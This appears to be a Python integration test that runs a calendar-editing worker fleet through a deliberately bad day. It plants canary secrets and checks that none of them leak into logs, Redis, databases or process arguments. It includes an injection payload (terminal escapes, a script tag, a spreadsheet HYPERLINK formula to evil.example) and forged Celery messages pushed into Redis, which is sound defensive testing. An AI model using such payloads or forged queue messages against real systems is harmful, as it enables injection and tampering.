"""A whole run with canaries for secrets and texts, on a bad day; all that it leaves behind.

Real processes, a real Valkey and database, the simulated API over HTTP. Everything fails that can
quote something: answers with the canaries in their bodies, statements on rows that hold them, tasks
that raise them, a worker that is killed, forged messages, settings that are wrong.
"""

from __future__ import annotations

import asyncio
import csv
import json
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import msgspec
import psycopg
import redis

from tests.fleet import ROOT, Fleet, _stop, a_fleet, pause
from worker.cli.processes import worker_command
from worker.model import ENDED
from worker.simulator import SIM_CLIENT_ID, Behaviour, Simulator, SimulatorServer
from worker.simulator.faults import Fault
from worker.simulator.seeds.sheets import write_accounts_csv
from worker.simulator.values import (
    Account,
    Attendee,
    Calendar,
    Event,
    Location,
    Person,
    Profile,
)
from worker.tokens import generate_key

PEOPLE, EVENTS = 3, 8
#: what people wrote into their calendars, and what only the API says about them
TEXTS = {
    "summary": "CanaryPlanning4417",
    "description": "CanaryAgenda8820",
    "location": "CanaryRoom3306",
    "script": "CanaryScript5512",
    "link": "CanaryLink9071",
    "terminal": "CanaryTerminal2231",
}
PEOPLE_TEXTS = {
    "attendee": "canary.attendee.6613@example.com",
    "organizer": "canary.organizer.7150@example.com",
    "profile": "canary.profile.1448@example.com",
}
#: what SQLite says when it refuses a row: a trigger's words are fixed, and stand in the file
REFUSAL = {"refusal": "CanaryRefusal6184"}
#: what the input's rows ask for
ASKED = {
    "new summary": "CanaryRenamed1290",
    "new description": "CanaryRewritten7734",
    "new location": "CanaryElsewhere6645",
}
#: what somebody pushes into Redis
FORGED = {"forged": "CanaryForged 5063"}
HOSTILE_TITLE = (
    f"\x1b]0;{TEXTS['terminal']}\x07\x1b[31m<script>{TEXTS['script']}</script>"
    f'=HYPERLINK("http://evil.example/{TEXTS["link"]}")\r\n\t\x00'.replace("\x00", "")
)
CLIENT_SECRET = "canary-client-secret-9f21"

#: Raises what it knows of secrets at the first reads and writes of its process, as a bug would.
_BUGGY_WORKER = """
import os, sys
from worker import points
left = {"read.after": 2, "post.after": 1, "commit.after": 1}
def quote(name):
    if left.get(name):
        left[name] -= 1
        raise RuntimeError(os.environ["CANARIES_TO_RAISE"])
points.listen(quote)
from celery.__main__ import main
sys.exit(main())
"""


class Telltale(Simulator):
    """A simulated API whose new tokens are known, and told apart."""

    def token(self, length: int = 32) -> str:
        """Return a token with a canary in it."""
        return f"canary-token-{super().token(16)}"


@dataclass(slots=True)
class Evidence:
    """What a run has left behind, and what must not be in it."""

    is_sqlite: bool
    secrets: dict[str, str] = field(default_factory=dict)
    logs: dict[str, str] = field(default_factory=dict)
    said: dict[str, str] = field(default_factory=dict)
    redis: bytes = b""
    traffic: bytes = b""
    arguments: bytes = b""
    sql: dict[str, bytes] = field(default_factory=dict)
    results: bytes = b""
    states: dict[str, int] = field(default_factory=dict)

    @property
    def personal(self) -> dict[str, str]:
        """Return every text of a person."""
        return TEXTS | PEOPLE_TEXTS | ASKED | REFUSAL


@contextmanager
def served(sim: Simulator) -> Iterator[str]:
    """Serve a simulator of this process over HTTP, in a thread of its own."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    server = SimulatorServer(sim)
    asyncio.run_coroutine_threadsafe(server.__aenter__(), loop).result(20)
    try:
        yield server.url
    finally:
        asyncio.run_coroutine_threadsafe(server.__aexit__(None, None, None), loop).result(20)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(20)
        loop.close()


def a_telltale() -> Telltale:
    """Return an API with people whose tokens and events are canaries."""
    sim = Telltale(Behaviour(rate=(), lag_s=0.2, rotate_refresh_tokens=True, token_life_s=120))
    sim.client_secrets = (CLIENT_SECRET,)
    for person in range(PEOPLE):
        sub = f"acc_{person}"
        profile = Profile(profile_id=f"pro_{person}", profile_name=PEOPLE_TEXTS["profile"])
        sim.add_account(
            Account(
                sub=sub,
                email=PEOPLE_TEXTS["profile"],
                name="Ann",
                access_token=f"canary-access-{person}-77ab",
                refresh_token=f"canary-refresh-{person}-31cd",
                # About to end: the first thing that a worker does is to refresh it.
                access_expires_at=time.time() + (30 if person else 3600),
                profiles={profile.profile_id: profile},
            )
        )
        sim.add_calendar(
            Calendar(
                calendar_id=f"cal_{person}",
                calendar_name="Work",
                sub=sub,
                profile_id=profile.profile_id,
            )
        )
        for number in range(EVENTS):
            sim.add_event(_an_event(person, number))
    return sim


def _an_event(person: int, number: int) -> Event:
    base = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    start = base + timedelta(days=2 + number % 3, hours=number)
    return Event(
        calendar_id=f"cal_{person}",
        event_uid=f"evt_external_{person:012x}{number:012x}",
        summary=HOSTILE_TITLE if number % 4 == 1 else TEXTS["summary"],
        description=TEXTS["description"],
        location=Location(TEXTS["location"]),
        attendees=(Attendee(PEOPLE_TEXTS["attendee"]),),
        organizer=Person(PEOPLE_TEXTS["organizer"]),
        start=start,
        end=start + timedelta(hours=1),
        created=base - timedelta(days=60),
        updated=base - timedelta(days=50),
    )


def write_edits(path: Path) -> None:
    """Write a campaign of shifts and of new texts over all events."""
    changes = [
        {"shift": "PT1H"},
        {"shift": "PT1H"},
        {"summary": ASKED["new summary"], "description": ASKED["new description"]},
        {"location": ASKED["new location"]},
    ]
    names = ["account", "calendar_id", "event_uid", "date_hint", "shift", "summary"]
    with path.open("w", newline="") as file:
        rows = csv.DictWriter(file, [*names, "description", "location", "ref"], restval="")
        rows.writeheader()
        for person in range(PEOPLE):
            for number in range(EVENTS):
                event = _an_event(person, number)
                rows.writerow(
                    {
                        "account": f"acc_{person}",
                        "calendar_id": event.calendar_id,
                        "event_uid": event.event_uid,
                        "date_hint": f"{event.start:%Y-%m-%d}",
                        "ref": f"row-{person}-{number}",
                    }
                    | changes[number % len(changes)]
                )


def arm(sim: Simulator) -> None:
    """Have answers of all kinds quote what the API knows."""
    quoted = " ".join([*TEXTS.values(), *PEOPLE_TEXTS.values(), HOSTILE_TITLE, CLIENT_SECRET])
    tokens = " ".join([*sim.access_tokens, *sim.refresh_tokens])
    text = f"{quoted} {tokens}"
    errors = {"errors": {text: [{"key": text, "description": text}]}}
    header = {"WWW-Authenticate": f'Bearer error="{TEXTS["summary"]} {tokens}"'}
    acts: list[tuple[str, dict[str, Any]]] = [
        ("events", {"do": "reply", "status": 500, "body": text}),
        ("events", {"do": "reply", "status": 401, "body": text, "headers": header}),
        ("events", {"do": "garbage", "body": text, "content_type": "application/json"}),
        ("events", {"do": "reply", "status": 200, "body": f'{{"events": [{{"summary": "{text}'}),
        ("events", {"do": "truncate"}),
        ("calendars", {"do": "reply", "status": 502, "body": text}),
        ("token", {"do": "reply", "status": 503, "body": text}),
        ("token", {"do": "reply", "status": 200, "body": f'{{"access_token": "{text}"'}),
        ("batch", {"do": "reply", "status": 500, "body": text}),
        ("batch", {"do": "reply", "status": 422, "json": errors}),
        ("batch", {"do": "garbage", "body": text}),
        ("batch", {"do": "reset", "taken": True}),
        ("batch_item", {"do": "reply", "status": 422, "json": errors}),
    ]
    for route, act in acts:
        match = {"route": route, "times": 1}
        sim.faults.add(msgspec.convert({"match": match, "act": act}, Fault))


# ---------------------------------------------------------------- listening


@contextmanager
def watched(url: str, evidence: Evidence) -> Iterator[None]:
    """Record every command that Redis gets, events included, as MONITOR shows it."""
    address = urlsplit(url)
    parts: list[bytes] = []
    with socket.create_connection((str(address.hostname), int(address.port or 0))) as link:
        words = [b"AUTH", str(address.password).encode()]
        if address.username:
            words.insert(1, address.username.encode())
        link.sendall(b" ".join(words) + b"\r\nMONITOR\r\n")

        def listen() -> None:
            while data := link.recv(1 << 16):
                parts.append(data)

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        try:
            yield
        finally:
            link.shutdown(socket.SHUT_RDWR)
            thread.join(20)
            evidence.traffic = b"".join(parts)


def dump_redis(url: str) -> bytes:
    """Return the names and values of all keys, as they are stored and as they are read."""
    parts = []
    with redis.Redis.from_url(url) as client:
        for key in client.scan_iter(count=1000):
            kind = client.type(key).decode()
            read = {  # a key may be gone by now: then it has no type
                "string": client.get,
                "list": lambda name: client.lrange(name, 0, -1),
                "hash": client.hgetall,
                "set": client.smembers,
                "zset": lambda name: client.zrange(name, 0, -1, withscores=True),
            }.get(kind)
            parts += [key, client.dump(key) or b"", _flat(read(key)) if read else b""]
    return b"\n".join(parts)


def _flat(value: Any) -> bytes:
    if isinstance(value, dict):
        return b" ".join(_flat(each) for pair in value.items() for each in pair)
    if isinstance(value, list | set | tuple):
        return b" ".join(_flat(each) for each in value)
    return value if isinstance(value, bytes) else repr(value).encode()


def dump_sql(url: str) -> dict[str, bytes]:
    """Return all columns of all tables, and of SQLite the files as they lie there."""
    found = {}
    if url.startswith("sqlite:///"):
        path = Path(url.removeprefix("sqlite:///"))
        for each in path.parent.glob(f"{path.name}*"):
            found[f"file {each.name}"] = each.read_bytes()
        with sqlite3.connect(path) as connection:
            names = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
            for (name,) in names.fetchall():
                found[name] = _rows(connection.execute(f'SELECT * FROM "{name}"').fetchall())
        connection.close()
        return found
    with psycopg.connect(url) as connection:
        query = "SELECT tablename FROM pg_tables WHERE schemaname = 'public'"
        for (name,) in connection.execute(query).fetchall():
            found[name] = _rows(connection.execute(f'SELECT * FROM "{name}"').fetchall())
    return found


def _rows(rows: list[Any]) -> bytes:
    return b"\n".join(_flat(tuple(row)) for row in rows)


def all_arguments() -> bytes:
    """Return the arguments of every process of this machine, as every user can read them."""
    parts = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            parts.append(path.read_bytes())
        except OSError:
            continue
    return b"\n".join(parts)


# ---------------------------------------------------------------- the bad day


class BadDay:
    """A fleet, and what is done to it."""

    def __init__(self, fleet: Fleet, sim: Simulator, evidence: Evidence, stack: ExitStack) -> None:
        self.fleet = fleet
        self.sim = sim
        self.evidence = evidence
        self._stack = stack

    def start(self, name: str, command: list[str], **environ: str) -> subprocess.Popen[bytes]:
        """Start a process of ours as `calpatch work` or `beat` does."""
        log = (self.fleet.folder / f"{name}.log").open("wb")
        process = subprocess.Popen(
            command, env=self.fleet.environ | environ, cwd=ROOT, stdout=log, stderr=log
        )
        log.close()
        self._stack.callback(_stop, process)
        return process

    def run(self, *arguments: str, name: str = "", **environ: str) -> None:
        """Run a command, and keep what it said."""
        before = dict(self.fleet.environ)
        self.fleet.environ |= environ
        try:
            ended = self.fleet.calpatch(*arguments)
        finally:
            self.fleet.environ = before
        self.evidence.said[name or " ".join(arguments)] = ended.stdout + ended.stderr

    def look(self) -> None:
        """Take down what there is at this moment."""
        self.evidence.redis += dump_redis(self.fleet.valkey.url)
        self.evidence.arguments += all_arguments()

    def until(self, what: str, is_so: Any, *, within_s: float = 90) -> None:
        """Wait for something that other processes do."""
        deadline = time.monotonic() + within_s
        while not is_so():
            assert time.monotonic() < deadline, f"{what}\n{self.fleet.logs()[-4000:]}"
            pause(0.1)

    def has_ended(self, key: str) -> bool:
        """Tell whether a campaign is over."""
        found = self.fleet.store.campaigns.get(key)
        return found is not None and found.state in ENDED


def spoil_rows(fleet: Fleet) -> None:
    """Have the database refuse a row with its content in the refusal."""
    if fleet.store.database.is_sqlite:
        text = f"<script>{REFUSAL['refusal']}</script>\x1b[2J"
        _sql(
            fleet,
            "CREATE TRIGGER spoilt BEFORE UPDATE ON edits WHEN NEW.line_no = 3"
            f" BEGIN SELECT RAISE(ABORT, '{text}'); END",
        )
        return
    _sql(
        fleet,
        "CREATE FUNCTION spoilt() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN"
        " IF NEW.line_no = 3 THEN"
        " RAISE EXCEPTION 'refused: %% %% %%', NEW.before, NEW.target, NEW.patch; END IF;"
        " RETURN NEW; END $$",
    )
    _sql(
        fleet, "CREATE TRIGGER spoilt BEFORE UPDATE ON edits FOR EACH ROW EXECUTE FUNCTION spoilt()"
    )


def is_spoilt_row_met(fleet: Fleet) -> bool:
    """Tell whether a worker was refused the row; until then no row of its chunk is given up.

    The errors that workers raise here might fall on that chunk three times before.
    """
    _sql(fleet, "UPDATE chunks SET rescues = 0 WHERE rescues > 2")
    return "not_recorded" in fleet.logs()


def mend_rows(fleet: Fleet) -> None:
    """Let it take the row again."""
    _sql(fleet, "DROP TRIGGER spoilt" + ("" if fleet.store.database.is_sqlite else " ON edits"))


def _sql(fleet: Fleet, statement: str) -> None:
    with fleet.store.database.begin() as connection:
        connection.exec_driver_sql(statement)


def forge(fleet: Fleet) -> None:
    """Send what nobody of ours would send, as whoever can write to Redis."""
    word = FORGED["forged"]
    with redis.Redis.from_url(fleet.valkey.url) as client:
        for task, arguments in (
            ("calpatch.run_chunk", [[word], {}, {}]),
            ("calpatch.run_chunk", [[], {word: word}, {}]),
            ("calpatch.run_chunk", [[{word: [word]}], {}, {}]),
            (f"calpatch.{word}", [[word], {}, {}]),
        ):
            client.lpush("calpatch:bulk", json.dumps(_forged(task, json.dumps(arguments))))
        client.lpush("calpatch:bulk", json.dumps(_forged("calpatch.run_chunk", f"{{{word}")))
        pickled = _forged("calpatch.run_chunk", word) | {
            "content-type": "application/x-python-serialize"
        }
        client.lpush("calpatch:bulk", json.dumps(pickled))


def _forged(task: str, body: str) -> dict[str, Any]:
    word = FORGED["forged"]
    return {
        "body": body,
        "content-encoding": "utf-8",
        "content-type": "application/json",
        "headers": {"lang": "py", "task": task, "id": word, "argsrepr": word, "kwargsrepr": word},
        "properties": {
            "correlation_id": word,
            "delivery_mode": 2,
            "delivery_info": {"exchange": "bulk", "routing_key": "bulk"},
            "priority": 0,
            "body_encoding": "",
            "delivery_tag": word,
        },
    }


def wrong_settings(day: BadDay) -> None:
    """Run commands with settings that cannot work, each with its secret in it."""
    secret = day.evidence.secrets
    wrong_urls = {
        "CALPATCH_DATABASE_URL": f"postgresql://ann:{secret['a wrong password']}@127.0.0.1:9/x",
        "CALPATCH_REDIS_URL": f"redis://ann:{secret['a wrong password']}@127.0.0.1:9/0",
        "CALPATCH_API_URL": f"http://ann:{secret['a wrong password']}@127.0.0.1:9",
        "CALPATCH_VAULT_KEYS": f"{secret['vault key']},{secret['a wrong password']}",
    }
    for name, value in wrong_urls.items():
        day.run("doctor", name=f"doctor with a wrong {name}", **{name: value})
        if name == "CALPATCH_REDIS_URL":  # it waits for a Redis that may come yet
            day.start("waiting", worker_command(1, log_level="DEBUG"), **{name: value})
        else:
            day.run("work", name=f"work with a wrong {name}", **{name: value})
    wrong_redis = urlsplit(day.fleet.valkey.url)
    address = f"redis://:{secret['a wrong password']}@127.0.0.1:{wrong_redis.port}/0"
    day.run("doctor", name="doctor with a wrong password", CALPATCH_REDIS_URL=address)
    day.run(
        "status", "--latest", name="status, unreadable URL", CALPATCH_DATABASE_URL=f"x{address}"
    )


def bad_day(folder: Path, database_url: str) -> Evidence:
    """Live through it, and return what there is to be searched."""
    evidence = Evidence(is_sqlite=database_url.startswith("sqlite"))
    sim = a_telltale()
    key = generate_key()
    write_accounts_csv(sim, folder / "accounts.csv")
    write_edits(folder / "edits.csv")
    settings = {
        "CALPATCH_LOG_LEVEL": "DEBUG",
        "CALPATCH_VAULT_KEYS": key,
        "CALPATCH_CRONOFY_CLIENT_ID": SIM_CLIENT_ID,
        "CALPATCH_CRONOFY_CLIENT_SECRET": CLIENT_SECRET,
        "CALPATCH_VERIFY_WITHIN": "6s",
        "CALPATCH_RESEND_AFTER": "2s",
        "CALPATCH_LEASE": "4s",
        "CALPATCH_BATCH_SIZE": "4",
        "CALPATCH_CHUNK_SIZE": "4",
    }
    with ExitStack() as stack:
        url = stack.enter_context(served(sim))
        fleet = stack.enter_context(
            a_fleet(folder, database_url, simulator_url=url, workers=0, settings=settings)
        )
        evidence.secrets = {
            "vault key": key,
            "client secret": CLIENT_SECRET,
            "Redis password": str(urlsplit(fleet.valkey.url).password),
            "a wrong password": "canary-wrong-password-58f1",
        }
        if not evidence.is_sqlite:
            evidence.secrets["PostgreSQL password"] = str(urlsplit(database_url).password)
        stack.enter_context(watched(fleet.valkey.url, evidence))
        _live(BadDay(fleet, sim, evidence, stack))
        tokens = {*sim.access_tokens, *sim.refresh_tokens}
        tokens |= {f"canary-refresh-{person}-31cd" for person in range(PEOPLE)}
        evidence.secrets |= {f"token {token}": token for token in tokens}
    evidence.logs = {path.name: path.read_text() for path in folder.glob("*.log")}
    evidence.results = b"\n".join(path.read_bytes() for path in folder.glob("results/*"))
    return evidence


def _live(day: BadDay) -> None:
    fleet = day.fleet
    day.run("accounts", "import", "accounts.csv")
    arm(day.sim)
    spoil_rows(fleet)
    debug = worker_command(4, log_level="DEBUG")
    quoted = " ".join([HOSTILE_TITLE, *TEXTS.values(), *PEOPLE_TEXTS.values(), CLIENT_SECRET])
    tokens = " ".join([*day.sim.access_tokens, *day.sim.refresh_tokens])
    buggy = [sys.executable, "-c", _BUGGY_WORKER, *debug[debug.index("celery") + 1 :], "-E"]
    day.fleet.environ["CANARIES_TO_RAISE"] = f"{quoted} {tokens}"
    day.start("json", buggy, CALPATCH_LOG_JSON="true")
    doomed = day.start("doomed", buggy)
    day.run("validate", "edits.csv")
    day.run("submit", "edits.csv", "--key", "k", "--reason", "test", "--yes", name="submit")
    day.until("a write was taken", lambda: any(each.taken for each in day.sim.writes))
    day.look()
    doomed.kill()
    doomed.wait(10)
    day.start("plain", buggy)
    forge(fleet)
    day.until("the spoilt row was met", lambda: is_spoilt_row_met(fleet))
    day.look()
    mend_rows(fleet)
    wrong_settings(day)
    day.until("the campaign ended", lambda: day.has_ended("k"))
    # A dead worker's last question may have got the messages: then they are sent again.
    if "TypeError at " not in fleet.logs():
        forge(fleet)
    day.until("the forged messages were met", lambda: "TypeError at " in fleet.logs())
    day.look()
    for line in _COMMANDS:
        day.run(*line.split())
    day.run("why", _an_event(0, 1).event_uid, name="why")
    day.evidence.sql = dump_sql(fleet.environ["CALPATCH_DATABASE_URL"])
    for (state, _), number in fleet.store.reading.counts(_id_of(fleet)).items():
        day.evidence.states[str(state)] = day.evidence.states.get(str(state), 0) + number


_COMMANDS = (
    "submit edits.csv --key k --reason again --yes",
    "status --latest",
    "status --latest --json",
    "list",
    "results --latest --out results",
    "audit search --campaign k --json",
    "audit search --since 1h",
    "show --diff",
    "show --only all --json",
    "show --html page.html",
    "show --group-by reason",
    "limits",
    "doctor",
    "doctor --json",
    "accounts list",
    "accounts list --json",
    "accounts check",
    "audit verify",
    "migrate --check",
    "status no-such-campaign",
    "accounts import edits.csv",
)


def _id_of(fleet: Fleet) -> str:
    found = fleet.store.campaigns.get("k")
    assert found is not None
    return found.id
